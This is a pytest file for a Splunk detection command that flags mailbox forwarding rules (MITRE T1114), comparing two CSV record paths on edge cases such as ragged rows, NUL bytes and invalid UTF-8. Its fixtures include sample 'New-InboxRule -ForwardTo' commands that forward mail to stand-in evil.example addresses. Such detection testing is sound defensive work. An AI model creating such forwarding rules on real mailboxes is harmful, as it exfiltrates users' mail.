"""The command's fast record path (bin/t1114_protocol/chunk_csv.py) against splunklib's own, through the
real protocol: the same events in, the same events, findings and messages out.

T1114_RECORD_PATH=splunklib switches the command to splunklib's reader and writer,
T1114_RECORD_PATH=plain to chunk_csv's plain path (every row parsed by the csv module) instead of
its block path. Runs under whichever Python runs the tests; tox runs it on 3.9 and 3.13.
"""

import os
import shutil

import pytest

from t1114_protocol.chunk_csv import decode_multivalue, encode_value
from tools.bench import make_records
from tools.chunked_client import ChunkedCommand, decode_records, encode_records, run, script_path
from tests.helpers import AWKWARD_RECORDS, comparable, rule_event_records
from tests.conftest import missing_shared_data

SPLUNKLIB = dict(os.environ, T1114_RECORD_PATH="splunklib")
LINES = dict(os.environ, T1114_RECORD_PATH="plain")


def both_paths(app_dir, records, args, chunk_size):
    fast = run(script_path(app_dir), records, args=args, chunk_size=chunk_size)
    plain = run(script_path(app_dir), records, args=args, chunk_size=chunk_size, env=SPLUNKLIB)
    assert fast["exit_code"] == 0, fast["stderr"]
    assert plain["exit_code"] == 0, plain["stderr"]
    return fast, plain


def assert_same(fast, plain):
    assert len(fast["records"]) == len(plain["records"])
    for ours, theirs in zip(comparable(fast["records"]), comparable(plain["records"])):
        assert ours == theirs
    assert fast["messages"] == plain["messages"]


@pytest.mark.parametrize("args", [["mode=all"], [], ["mode=all", "allowlist=false"], ["allowlist=false"],
                                  ["mode=all", "expand=true"], ["expand=true"]],
                         ids=["all", "findings", "all-no-allowlist", "findings-no-allowlist", "all-expand", "expand"])
def test_rule_test_events_give_the_same_output_on_both_paths(built_app, args):
    records = rule_event_records()
    fast, plain = both_paths(built_app, records, args, chunk_size=9)
    assert_same(fast, plain)
    assert any(r["t1114_status"] == "finding" for r in fast["records"])


@pytest.mark.parametrize("args", [["mode=all"], [], ["mode=all", "expand=true"]], ids=["all", "findings", "all-expand"])
def test_generated_streams_give_the_same_output_on_both_paths(built_app, args):
    records = make_records(seed=7, size=3000, positive_rate=0.05)
    fast, plain = both_paths(built_app, records, args, chunk_size=1000)
    assert_same(fast, plain)
    assert sum(1 for r in fast["records"] if r["t1114_status"] == "finding") >= 50


@pytest.mark.parametrize("mix", ["tenant", "mail_items_accessed", "endpoint"])
def test_real_shaped_mixes_give_the_same_output_on_both_paths(built_app, mix):
    """The benchmark's streams (tools/real_streams.py): whole _raw, every extracted field,
    multivalue ones, CIM aliases; findings written as their input line plus the t1114 cells."""
    from tools import real_streams
    if not real_streams.available():
        missing_shared_data("the public records in ../shared/datasets are not here")
    records = real_streams.make_mix(mix, 5, 1200)
    for args in (["mode=all"], [], ["mode=all", "expand=true"]):
        fast, plain = both_paths(built_app, records, args, chunk_size=500)
        assert_same(fast, plain)
    found = sum(1 for r in run(script_path(built_app), records, args=["mode=all", "allowlist=false"],
                               chunk_size=500)["records"] if r["t1114_status"])
    assert found or mix == "endpoint"


@pytest.mark.parametrize("mix", ["tenant", "mail_items_accessed", "endpoint", "light"])
def test_block_and_plain_rows_give_the_same_bytes_through_the_protocol(built_app, mix):
    """The block path (the default) against the plain path of the same record path, output
    chunks compared byte for byte, each chunk of 700 events read as splunkd sends it."""
    from tools import real_streams
    if mix == "light":
        records = make_records(seed=9, size=2100, positive_rate=0.05)
    elif not real_streams.available():
        missing_shared_data("the public records in ../shared/datasets are not here")
    else:
        records = real_streams.make_mix(mix, 6, 2100)
    bodies = [encode_records(records[start:start + 700]) for start in range(0, len(records), 700)]
    for args in (["mode=all"], ["expand=true"]):
        outputs = []
        for env in (None, LINES):
            with ChunkedCommand(script_path(built_app), args, env=env) as command:
                command.getinfo()
                chunks = []
                for index, body in enumerate(bodies):
                    command._send({"action": "execute", "finished": index == len(bodies) - 1}, body)
                    chunks.append(command._receive())
                assert command.close() == 0
            outputs.append(chunks)
        assert outputs[0] == outputs[1]
        assert sum(len(decode_records(body)) for _, body in outputs[0]) >= (len(records) if args == ["mode=all"]
                                                                            else 1 if mix != "endpoint" else 0)


def test_suppressed_findings_and_allowlist_warnings_match(built_app, tmp_path):
    app_copy = str(tmp_path / "t1114_email_collection")
    shutil.copytree(built_app, app_copy)
    with open(os.path.join(app_copy, "lookups", "t1114_allowlist_accounts.csv"), "w") as handle:
        handle.write("account,rules,valid_from,valid_until,reason\n"
                     "ops@contoso.com,,not-a-date,,typo\n"
                     "*@contoso.com,,,,everyone at contoso, for the test\n")
    records = rule_event_records() + make_records(seed=3, size=500, positive_rate=0.1)
    for args in (["mode=all"], [], ["allowlist=false"], ["mode=all", "expand=true"]):
        fast, plain = both_paths(app_copy, records, args, chunk_size=100)
        assert_same(fast, plain)
    assert any(level == "WARN" for level, _ in fast["messages"])


def test_events_that_already_carry_output_fields(built_app):
    """A second `| t1114`, and CIM fields the event has (kept) or has empty (filled)."""
    first = run(script_path(built_app), rule_event_records(), args=["mode=all"])["records"]
    for index, record in enumerate(first):
        if index % 3 == 0:
            record["user"] = ""
        if index % 3 == 1:
            record["action"] = ["allowed", "blocked"]
    for args in (["mode=all"], [], ["mode=all", "expand=true"]):
        fast, plain = both_paths(built_app, first, args, chunk_size=11)
        assert_same(fast, plain)


def test_awkward_values_and_columns(built_app):
    for args in (["mode=all"], []):
        fast, plain = both_paths(built_app, AWKWARD_RECORDS * 3, args, chunk_size=4)
        assert_same(fast, plain)


def _raw_chunk(command, body, finished):
    command._send({"action": "execute", "finished": finished}, body)
    metadata, out = command._receive()
    return metadata, comparable(decode_records(out))


def test_ragged_rows_and_invalid_utf8(built_app):
    """Rows shorter or longer than the header read as splunklib reads them (zip()).

    The first row is whole on purpose: splunklib takes a chunk's output columns from its
    first record and drops a field that record lacks; the fast path keeps every column.
    """
    header = b"sourcetype,EventCode,ScriptBlockText,user,extra\r\n"
    rows = (b"XmlWinEventLog,4104,New-InboxRule -Name a -ForwardTo x@evil.example,m@contoso.com,\r\n"
            b"XmlWinEventLog,4104,New-InboxRule -Name a -ForwardTo y@evil.example,m@contoso.com,x,too,many\r\n"
            b"XmlWinEventLog,4104,New-InboxRule -Name a -ForwardTo w@evil.example\r\n"
            b"short\r\n"
            b"\r\n"
            # The invalid bytes stand in a statement of their own: New-InboxRule must be in command position.
            b"XmlWinEventLog,4104,caf\xe9 \xff; New-InboxRule -ForwardTo z@evil.example,,\r\n")
    outputs = []
    for env in (None, SPLUNKLIB):
        with ChunkedCommand(script_path(built_app), ["mode=all"], env=env) as command:
            command.getinfo()
            outputs.append([_raw_chunk(command, header + rows, False),
                            _raw_chunk(command, encode_records(rule_event_records()[:5]), True)])
        assert command.returncode == 0, command.stderr()
    assert outputs[0] == outputs[1]
    assert len(outputs[0][0][1]) == 6
    assert [r["t1114_status"] for r in outputs[0][0][1]] == ["finding", "finding", "finding", "", "", "finding"]


def test_a_lone_surrogate_in_a_finding_does_not_end_the_search(built_app):
    """json.loads turns a `\\ud800` escape in _raw into a lone surrogate that can reach the
    reason; splunklib's path fails to encode its reply there, the fast path writes `?`."""
    raw = ('{"Operation":"New-InboxRule","Workload":"Exchange","RecordType":1,"UserId":"m\\ud800@contoso.com",'
           '"Parameters":[{"Name":"Name","Value":"a"},{"Name":"ForwardTo","Value":"x@evil.example"}]}')
    record = {"sourcetype": "o365:management:activity", "_raw": raw}
    result = run(script_path(built_app), [record], args=["mode=all"])
    assert result["exit_code"] == 0, result["stderr"]
    (out,) = result["records"]
    assert out["t1114_status"] == "finding" and "m?@contoso.com" in out["t1114_reason"]


def test_a_nul_character_neither_ends_the_search_nor_hides_a_finding(built_app):
    """Python 3.9's csv module stops at a NUL ("line contains NUL"), which ended the search with
    no events back; both record paths now read it as 3.11 and later do (app/csv_rows.py), on
    the NUL's own row, a row whose quoted cell spans lines, and a row holding the stand-in the
    escaping uses."""
    forward = "New-InboxRule -Name a\x00b -ForwardTo x@evil.example"
    records = [
        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": forward, "Computer": "h\x00st"},
        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "_raw": "line one\x00\r\nline two",
         "ScriptBlockText": "Get-Date"},
        {"sourcetype": "o365:management:activity", "_raw": "{\"Operation\": \"Get-Mailbox\"}\x00\ufdd00\ufdd01",
         "Operation": "Get-Mailbox"},
        {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": forward.replace("x@", "y@")},
    ]
    outputs = []
    for env in (None, LINES):
        result = run(script_path(built_app), records, args=["mode=all"], env=env)
        assert result["exit_code"] == 0, result["stderr"][-2000:]
        assert not [text for level, text in result["messages"] if level == "ERROR"]
        out = result["records"]
        assert [record.get("_raw", "") for record in out] == [record.get("_raw", "") for record in records]
        assert out[0]["ScriptBlockText"] == forward and out[0]["Computer"] == "h\x00st"
        assert [record["t1114_status"] for record in out] == ["finding", "", "", "finding"]
        outputs.append(comparable(out))
    assert outputs[0] == outputs[1]


@pytest.mark.parametrize("value", ["", "a", "a$b", "$", "$$", ";", "$;$"])
def test_multivalue_cells_decode_what_they_encode(value):
    values = [value, "x", value]
    single, encoded = encode_value(values)
    assert decode_multivalue(encoded) == values
    assert single == "\n".join(values)
    assert encode_value([value]) == (value, "")
    assert encode_value(None) == ("", "")


@pytest.mark.parametrize("encoded", ["$a$;$b$", "$a$", "$$", "$$;$x$", "$a$$b$;$c$", "$a$;b$", "a", "", "$",
                                     "$;$", "$a$;$$;$b$", "$a;$;$b$", "x$a$", "$a$;$b$c"])
def test_multivalue_decoding_matches_splunklibs_pattern(encoded):
    """splunklib 2.1.1 decodes with this pattern; odd cells must read the same both ways."""
    import re
    pattern = re.compile(r"\$(?P<item>(?:\$\$|[^$])*)\$(?:;|$)")
    assert decode_multivalue(encoded) == [item.replace("$$", "$") for item in pattern.findall(encoded)]
